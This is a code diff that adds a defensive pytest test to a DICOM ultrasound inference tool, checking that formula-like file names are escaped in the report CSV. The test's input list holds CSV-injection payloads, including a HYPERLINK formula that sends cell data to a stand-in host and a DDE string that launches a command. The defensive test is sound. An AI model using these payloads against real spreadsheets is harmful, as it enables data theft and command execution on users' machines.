@@ -310,3 +310,27 @@ def test_vendor_quirks_two_frame_single_frame_class_missing_uid_and_empty_region
 
     image = LoadUltrasoundImaged("image")({"image": str(inputs / "no_uid.dcm")})["image"]
     assert tuple(image.shape) == (480, 640, 3) and image.meta["dicom_sop_instance_uid"] == ""
+
+
+def test_report_csv_cells_cannot_be_spreadsheet_formulas(tmp_path):
+    """A file named like a formula goes into report.csv as text (apostrophe first); numbers stay numbers."""
+    from tinyusfm_monai.utils.csvsafe import safe_cell
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    for name in hostile:
+        (folder / name.replace("/", "_")).write_text("not dicom")
+    infer("unused", str(folder), str(tmp_path / "out"), predictor=ThresholdSegmenter())
+    text = (tmp_path / "out" / "report.csv").read_text()
+    rows = list(csv.DictReader(open(tmp_path / "out" / "report.csv")))
+    assert len(rows) == len(hostile) and all(r["input"].startswith("'") for r in rows), text
+    assert {r["input"][1:] for r in rows} == {n.replace("/", "_") for n in hostile}
+    assert [safe_cell(v) for v in ("-0.25", "1e-3", -1, "\t=1", "plain", "")] == [
+        "-0.25",
+        "1e-3",
+        -1,
+        "'\t=1",
+        "plain",
+        "",
+    ]
